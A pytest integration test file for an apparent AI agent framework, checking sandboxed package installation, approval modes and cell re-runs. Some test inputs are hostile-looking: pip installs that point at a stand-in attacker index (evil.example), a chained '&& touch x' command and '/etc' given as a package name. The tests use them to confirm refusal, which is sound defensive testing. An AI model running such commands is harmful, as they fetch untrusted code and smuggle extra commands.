"""Which Python cells run in, by configuration; packages by `Agent`; the install tool behind policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import anyio
import pytest
from tests.wheels import Index

from pinfold import Agent, Approval, PinfoldError, tool
from pinfold.events import ActionFinished, ActionProposed, ActionStarted, CallTool, Noticed
from pinfold.sandbox.environment import build, store

pytestmark = pytest.mark.integration


@pytest.fixture
def small(index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Index:
    """The usual packages are but one, so that a build takes a second."""
    lock = tmp_path / "lock.txt"
    lock.write_text(index.add("heron"))
    monkeypatch.setattr(store, "LOCK", lock)
    return index


def agent_of(workspace: Path, model: str, **more: Any) -> Agent:
    return Agent(model=model, workspace=workspace, sandbox="unsafe-local", **more)


def installs(package: Any) -> dict[str, Any]:
    return {"calls": [{"tool": "install", "args": {"package": package}}]}


async def notices_of(agent: Agent) -> list[str]:
    assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
    events = [entry.event for entry in agent._live.log.read()]  # pyright: ignore[reportPrivateUsage]
    return [event.text for event in events if isinstance(event, Noticed)]


async def test_without_an_environment_cells_run_in_our_own_python_and_it_is_said_once(
    workspace: Path, script: Any
) -> None:
    said: list[bool] = []
    for _ in range(2):
        async with agent_of(workspace, script({"text": "hi"})) as agent:
            said.append(any("`pinfold env build`" in text for text in await notices_of(agent)))
    assert said == [True, False]


async def test_cells_run_in_the_environment_once_it_is_built(
    small: Index, workspace: Path, script: Any, cell: Any
) -> None:
    environment = build()
    model = script(cell("import heron, sys; print(sys.prefix)"), {"expect": str(environment.folder), "text": "yes"})
    async with agent_of(workspace, model) as agent:
        assert (await agent.run("where?")).text == "yes"
        assert not any("not built" in text for text in await notices_of(agent))


async def test_packages_given_to_an_agent_are_built_first(
    small: Index, workspace: Path, script: Any, cell: Any
) -> None:
    small.add("nest")
    model = script(cell("import heron, nest; print('both', nest.version)"), {"expect": "both 1.0", "text": "ok"})
    async with agent_of(workspace, model, packages=["Nest"]) as agent:
        assert (await agent.run("go")).text == "ok"


async def test_packages_that_cannot_be_had_are_said_before_anything_runs(
    small: Index, workspace: Path, script: Any
) -> None:
    with pytest.raises(PinfoldError, match="no package 'nosuch'"):
        async with agent_of(workspace, script({"text": "x"}), packages=["nosuch"]):
            pass
    with pytest.raises(PinfoldError, match="is not a package name"):
        agent_of(workspace, script({"text": "x"}), packages=["./x"])


async def test_packages_that_are_configured_and_not_built_are_said(
    small: Index, workspace: Path, script: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PINFOLD_SANDBOX_PACKAGES", '["nest"]')
    async with agent_of(workspace, script({"text": "hi"})) as agent:
        assert "the environment with nest is not built: `pinfold env build` makes it" in await notices_of(agent)


async def test_a_python_of_the_users_own_runs_the_cells(
    small: Index, workspace: Path, script: Any, cell: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = build(["heron"], lock="")
    monkeypatch.setenv("PINFOLD_SANDBOX_PYTHON", str(own.python))
    model = script(cell("import sys; print(sys.prefix)"), {"expect": str(own.folder), "text": "ok"})
    async with agent_of(workspace, model) as agent:
        assert (await agent.run("go")).text == "ok"
    with pytest.raises(PinfoldError, match="packages cannot be added to"):
        async with agent_of(workspace, script({"text": "x"}), packages=["heron"]):
            pass


async def test_an_approved_package_is_installed_and_stays_with_the_session(
    index: Index, workspace: Path, script: Any, cell: Any
) -> None:
    index.add("heron")
    asked: list[str] = []

    async def approve(approval: Approval) -> bool:
        asked.append(approval.reason)
        return True

    model = script(
        installs("heron"),
        {"expect": "installed heron 1.0", **cell("import heron; print('legs', heron.version)")},
        {"expect": "legs 1.0", "text": "two"},
    )
    async with agent_of(workspace, model, approve=approve) as agent:
        assert (await agent.run("how many legs?")).text == "two"
    assert asked == ["the package heron would be fetched from the package index and put into the session"]
    again = script(
        cell("import heron; print('still', heron.version)"), {"expect": "still 1.0", "text": "yes"}, name="2"
    )
    async with Agent(session=agent.session_id, model=again) as resumed:
        assert (await resumed.run("still?")).text == "yes"


@pytest.mark.parametrize(("mode", "seen"), [("auto", "no user can be asked"), ("full", "installed heron 1.0")])
async def test_unattended_a_package_is_installed_in_mode_full_only(
    index: Index, workspace: Path, script: Any, mode: Any, seen: str
) -> None:
    index.add("heron")
    model = script(installs("heron"), {"expect": seen, "text": "ok"})
    async with agent_of(workspace, model, mode=mode, ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"


@pytest.mark.parametrize(
    ("package", "seen"),
    [("nosuch", "no package 'nosuch'"), ("/etc", "is not a package name"), (3, "wrong arguments for install")],
)
async def test_a_package_that_cannot_be_had_is_told_to_the_model(
    index: Index, workspace: Path, script: Any, package: Any, seen: str
) -> None:
    model = script(installs(package), {"expect": seen, "text": "ok"})
    async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
        finished = [event async for event in agent.stream("go") if isinstance(event, ActionFinished)]
    assert [event.outcome for event in finished] == ["error"]


@pytest.mark.parametrize("sandbox", ["namespaces", pytest.param("unsafe-local", marks=pytest.mark.slow)])
@pytest.mark.parametrize(
    "line", ["%pip install heron twig", "!pip install -q heron twig", "said = !pip install heron twig"]
)
async def test_a_cell_installs_packages_and_imports_them_at_once(
    index: Index, workspace: Path, script: Any, cell: Any, sandbox: str, line: str
) -> None:
    index.add("heron")
    index.add("twig")
    model = script(
        cell(f"{line}\nimport heron, twig; print('legs', heron.version)"), {"expect": "legs 1.0", "text": "ok"}
    )
    async with Agent(model=model, workspace=workspace, sandbox=sandbox, mode="full") as agent:
        assert (await agent.run("go")).text == "ok"
        assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
        events = [entry.event for entry in agent._live.log.read()]  # pyright: ignore[reportPrivateUsage]
    (outer,) = [event for event in events if isinstance(event, ActionProposed) and event.parent is None]
    calls = [event for event in events if isinstance(event, ActionProposed) and event.parent]
    assert [(call.by, call.parent, call.action) for call in calls] == [
        ("cell", outer.id, CallTool(tool="install", args={"package": name})) for name in ("heron", "twig")
    ]


async def test_what_the_tool_says_is_printed(index: Index, workspace: Path, script: Any, cell: Any) -> None:
    index.add("heron")
    model = script(cell("%pip install heron"), {"expect": "installed heron 1.0\n", "text": "ok"})
    async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"


@pytest.mark.parametrize(
    ("mode", "line", "seen"),
    [
        ("auto", "%pip install heron", "ToolRefused: This was not run: the package heron would be fetched"),
        ("read-only", "%pip install heron", "ToolRefused: This was not run: a package would be installed"),
        ("full", "%pip install nosuch", "ToolFailed: install failed: "),
        ("full", "%pip install -i http://evil.example/simple heron", "only packages can be named here, without -i"),
        ("full", "%pip install -r requirements.txt", "only packages can be named here, without -r"),
        ("full", "%pip install --index-url=http://evil.example heron", "without --index-url=http://evil.example"),
        ("full", "!pip install heron && touch x", "by a line of its own"),
        ("full", "%pip install", "name the packages to install"),
        ("full", "%pip install git+https://example.org/x", "is not a package name"),
    ],
)
async def test_a_package_a_cell_may_not_or_cannot_have_is_its_error(
    index: Index, workspace: Path, script: Any, cell: Any, mode: Any, line: str, seen: str
) -> None:
    index.add("heron")
    model = script(cell(f"{line}\nprint('went on')"), {"expect": seen, "text": "ok"})
    async with Agent(model=model, workspace=workspace, sandbox="namespaces", mode=mode, ephemeral=True) as agent:
        result = await agent.run("go")
        assert result.text == "ok"
        assert agent._live is not None  # pyright: ignore[reportPrivateUsage]
        ends = [entry.event for entry in agent._live.log.read() if isinstance(entry.event, ActionFinished)]  # pyright: ignore[reportPrivateUsage]
    assert "went on" not in ends[-1].observation
    if "evil" in line or mode != "full":
        assert index.asked == []


async def test_a_user_is_asked_about_a_cells_package_outside_its_time(
    index: Index, workspace: Path, script: Any, cell: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    index.add("heron")
    asked: list[Any] = []

    async def approve(approval: Approval) -> bool:
        asked.append(approval)
        await anyio.sleep(2.2)
        return True

    model = script(cell("%pip install heron\nimport heron; print('legs')"), {"expect": "legs", "text": "ok"})
    monkeypatch.setenv("PINFOLD_SANDBOX_CELL_S", "2")
    async with agent_of(workspace, model, approve=approve) as agent:
        assert (await agent.run("go")).text == "ok"
    assert len(asked) == 1


async def test_a_cell_gets_the_whole_of_a_long_result_and_the_model_none(
    workspace: Path, script: Any, cell: Any
) -> None:
    @tool(effect="pure")
    def rows(count: int) -> str:
        """Many rows."""
        return "row of the table\n" * count

    code = "from _pinfold_guest.calls import call\nprint('has', len(call('rows', count=10_000)))"
    model = script(cell(code), {"expect": "has 170000", "text": "ok"})
    async with Agent(model=model, workspace=workspace, sandbox="namespaces", tools=[rows], ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"


LACKING = "rows = [*globals().get('rows', []), 1]\nopen('log.txt', 'a').write('x')\nimport heron\nprint(len(rows), heron.version)"
"""Leaves traces in variables and files before it fails."""


async def said_yes(approval: Approval) -> bool:
    return True


@pytest.mark.parametrize(("mode", "approve"), [("full", None), ("auto", said_yes), ("ask", said_yes)])
async def test_a_cell_that_lacks_a_package_gets_it_and_runs_again_as_if_for_the_first_time(
    index: Index, workspace: Path, script: Any, cell: Any, mode: Any, approve: Any
) -> None:
    index.add("heron")
    model = script(
        cell(LACKING),
        {"expect": "1 1.0\n[installed heron 1.0, and ran the cell again from its start]", **cell("y = 2")},
        {"text": "ok"},
    )
    async with Agent(
        model=model, workspace=workspace, sandbox="namespaces", mode=mode, approve=approve, ephemeral=True
    ) as agent:
        events = [event async for event in agent.stream("go")]
        assert (workspace / "log.txt").read_text() == "x"
        await agent.undo()
        await agent.undo()
        assert not (workspace / "log.txt").exists()
    starts = [(event.cell, event.instead_of) for event in events if isinstance(event, ActionStarted)]
    assert starts == [(1, None), (None, None), (2, 1), (3, None)]
    ends = [(event.outcome, event.rolled_back) for event in events if isinstance(event, ActionFinished)]
    assert ends == [("ok", False)] * 3


async def test_headless_without_approval_a_cell_that_lacks_a_package_fails_once_and_says_what_would_help(
    index: Index, workspace: Path, script: Any, cell: Any
) -> None:
    index.add("heron")
    model = script(cell(LACKING), {"expect": "`pip` name: heron", "text": "ok"})
    async with Agent(model=model, workspace=workspace, sandbox="namespaces", ephemeral=True) as agent:
        ends = [event async for event in agent.stream("go") if isinstance(event, ActionFinished)]
    assert [(event.outcome, event.notices) for event in ends] == [
        ("error", ("the package heron is missing; with `--mode full` it is installed and the cell runs again",))
    ]
    assert index.asked == []


@pytest.mark.parametrize(
    ("answer", "seen"), [(False, "[This was not run: "), (True, "[install failed: there is no package 'heron'")]
)
async def test_a_package_that_is_not_installed_leaves_the_cells_error_and_says_why(
    index: Index, workspace: Path, script: Any, cell: Any, answer: bool, seen: str
) -> None:
    async def approve(approval: Approval) -> bool:
        return answer

    model = script(cell(LACKING), {"expect": seen, "text": "ok"})
    async with Agent(model=model, workspace=workspace, sandbox="namespaces", approve=approve, ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"
    assert (workspace / "log.txt").read_text() == "x"


async def test_where_nothing_can_be_undone_the_package_is_installed_and_the_rest_left_to_the_model(
    index: Index, workspace: Path, script: Any, cell: Any
) -> None:
    index.add("heron")
    model = script(cell(LACKING), {"expect": "[installed heron 1.0; run again what did not run]", "text": "ok"})
    async with agent_of(workspace, model, mode="full", ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"
    assert (workspace / "log.txt").read_text() == "x"


async def test_what_cannot_be_undone_is_not_done_twice_for_a_package(
    index: Index, workspace: Path, script: Any, cell: Any
) -> None:
    index.add("heron")
    sent: list[str] = []

    @tool
    def send(text: str) -> str:
        """Send it."""
        sent.append(text)
        return "sent"

    model = script(
        cell("from servers.tools import send\nsend('hello')\nimport heron"),
        {"expect": "[installed heron 1.0; run again what did not run]", **cell("import heron; print('has it')")},
        {"expect": "has it", "text": "ok"},
    )
    async with Agent(
        model=model, workspace=workspace, sandbox="namespaces", mode="full", tools=[send], ephemeral=True
    ) as agent:
        assert (await agent.run("go")).text == "ok"
    assert sent == ["hello"]


@pytest.mark.parametrize("sandbox", ["namespaces", "landlock", "unsafe-local"])
async def test_programs_of_the_session_find_what_was_installed(
    index: Index, workspace: Path, script: Any, cell: Any, sandbox: str
) -> None:
    index.add("heron")
    shell = {"calls": [{"tool": "shell", "args": {"command": "python -c 'import heron; print(heron.version)'"}}]}
    model = script(
        installs("heron"),
        shell,
        {"expect": "1.0", **cell("!python -c 'import heron; print(\"legs\", heron.version)'")},
        {"expect": "legs 1.0", **cell("%%bash\nheron && python3 -c 'import heron; print(\"wings\")'")},
        {"expect": "heron 1.0\nwings", "text": "ok"},
    )
    async with Agent(model=model, workspace=workspace, sandbox=sandbox, mode="full", ephemeral=True) as agent:
        assert (await agent.run("go")).text == "ok"
